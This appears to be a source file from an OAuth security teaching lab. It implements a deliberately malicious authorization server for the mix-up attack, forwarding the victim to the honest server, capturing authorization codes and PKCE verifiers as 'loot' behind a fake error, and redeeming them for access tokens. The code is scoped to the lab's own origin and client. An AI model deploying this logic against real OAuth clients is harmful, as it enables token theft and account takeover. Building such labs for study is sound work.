import 'server-only';
import { z } from 'zod';
import type { PlaygroundEnv } from '../../../../lib/config/env';
import { errorResponse } from '../../../../lib/http/errors';
import { runOf } from '../../../../lib/trace/run';
import { asAttacker, attempt, keepIssuedAccessToken, nothingStolen } from '../../../../lib/attacks/attacker';
import { learnerAndForm, learnerOf, noLearner } from '../../../../lib/attacks/learner-and-form';
import { lootStore } from '../../../../lib/attacks/loot';
import { ATTACKER_AS_PATH, CLIENT_ID_AT_ATTACKER, MIX_UP_CLIENT_ID } from './mix-up-parties';

/**
 * DELIBERATELY MALICIOUS, lab only: the attacker's authorization server of the mix-up attack (RFC 9700
 * §4.4, RFC 9207 §1). The lab's mix-up client knows it as a second server alice may choose. It
 * issues nothing itself: its authorization endpoint sends alice on to the honest server, and its token
 * endpoint keeps what the client sends it. It acts only for the lab's mix-up client and the lab's
 * redirect URI, and only ever sends the browser to the playground's own authorization endpoint.
 */
export const attackerIssuer = (env: PlaygroundEnv) => `${env.publicOrigin}${ATTACKER_AS_PATH}`;

const noStore = { 'cache-control': 'no-store' };

/** RFC 8414 §2: the metadata the client reads when alice picks this server (its issuer, its endpoints). */
export function attackerMetadata(env: PlaygroundEnv): Response {
  const issuer = attackerIssuer(env);
  return Response.json(
    {
      issuer,
      authorization_endpoint: `${issuer}/authorize`,
      token_endpoint: `${issuer}/token`,
      response_types_supported: ['code'],
      grant_types_supported: ['authorization_code'],
      code_challenge_methods_supported: ['S256'],
      token_endpoint_auth_methods_supported: ['none'],
      authorization_response_iss_parameter_supported: true,
    },
    { headers: noStore },
  );
}

/** The authorization request parameters the attacker passes on to the honest server, unchanged. */
const FORWARDED = [
  'response_type',
  'scope',
  'state',
  'nonce',
  'code_challenge',
  'code_challenge_method',
] as const;

/**
 * GET /api/attacker/as/authorize: RFC 9700 §4.4.1 step 2. The attacker swaps in the client's client_id
 * at the honest server and redirects alice there (303) with everything else as the client sent it, so
 * that the honest server's response (code, state, its own iss) comes back to the client's redirect URI.
 */
export function attackerAuthorize(request: Request, env: PlaygroundEnv): Response {
  const query = new URL(request.url).searchParams;
  const redirectUri = `${env.publicOrigin}/callback`;
  if (query.get('client_id') !== CLIENT_ID_AT_ATTACKER)
    return errorResponse(
      400,
      'invalid_client',
      `The attacker’s authorization server knows one client only, the lab’s mix-up client (client_id ${CLIENT_ID_AT_ATTACKER}).`,
    );
  if (query.get('redirect_uri') !== redirectUri)
    return errorResponse(
      400,
      'invalid_request',
      `redirect_uri must be the lab client’s, ${redirectUri}: the attacker’s server sends no one anywhere else.`,
    );
  const honest = new URL('/oidc/auth', env.publicOrigin);
  honest.searchParams.set('client_id', MIX_UP_CLIENT_ID);
  honest.searchParams.set('redirect_uri', redirectUri);
  for (const name of FORWARDED) {
    const value = query.get(name);
    if (value !== null) honest.searchParams.set(name, value);
  }
  return new Response(null, { status: 303, headers: { location: honest.href, ...noStore } });
}

export const attackerTokenRequestSchema = z.object({
  grant_type: z.literal('authorization_code', { error: 'grant_type must be authorization_code' }),
  code: z.string().min(1, 'code is missing').max(4096),
  client_id: z.literal(CLIENT_ID_AT_ATTACKER, {
    error: `client_id must be ${CLIENT_ID_AT_ATTACKER}, the lab client’s id at the attacker’s server`,
  }),
  redirect_uri: z.string().max(2048).optional(),
  code_verifier: z.string().min(1).max(256).optional(),
});

/**
 * POST /api/attacker/as/token: the client, believing alice's code came from this server, redeems it here
 * and hands over its code_verifier too. The attacker keeps both and answers with a refusal, as if the
 * code were bad, so that alice only sees a failed sign-in and tries again.
 */
export async function attackerToken(request: Request): Promise<Response> {
  const read = await learnerAndForm(request, attackerTokenRequestSchema);
  if (read instanceof Response) return read;
  const { learnerId, form } = read;
  const run = runOf(request.headers);
  const at = new Date().toISOString();
  const how = 'sent to the attacker’s token endpoint by the client itself';
  const loot = lootStore();
  loot.add(learnerId, {
    kind: 'code',
    value: form.code,
    client_id: MIX_UP_CLIENT_ID,
    how,
    run,
    at,
  });
  if (form.code_verifier)
    loot.add(learnerId, {
      kind: 'code_verifier',
      value: form.code_verifier,
      client_id: MIX_UP_CLIENT_ID,
      how,
      run,
      at,
    });
  return errorResponse(400, 'invalid_grant', 'grant request is invalid');
}

/**
 * POST /api/attacker/as/redeem: the attacker redeems alice's code at the honest token endpoint as the
 * public client, with the client's own code_verifier: PKCE cannot tell it from the client.
 */
export async function redeemMixedUpCode(request: Request, env: PlaygroundEnv): Promise<Response> {
  const learnerId = await learnerOf(request);
  if (!learnerId) return noLearner();
  const run = runOf(request.headers);
  const code = lootStore().newest(learnerId, 'code', run);
  if (!code) return nothingStolen('authorization code');
  const verifier = lootStore().newest(learnerId, 'code_verifier', run);
  return attempt(async () => {
    const answer = await asAttacker(request, env, '/oidc/token', {
      method: 'POST',
      form: {
        grant_type: 'authorization_code',
        code: code.value,
        redirect_uri: `${env.publicOrigin}/callback`,
        client_id: MIX_UP_CLIENT_ID,
        ...(verifier ? { code_verifier: verifier.value } : {}),
      },
    });
    return keepIssuedAccessToken(learnerId, answer, {
      client_id: MIX_UP_CLIENT_ID,
      how: `got by redeeming alice’s code ${verifier ? 'with the client’s code_verifier ' : ''}at the honest token endpoint`,
      run: code.run,
    });
  }, env);
}
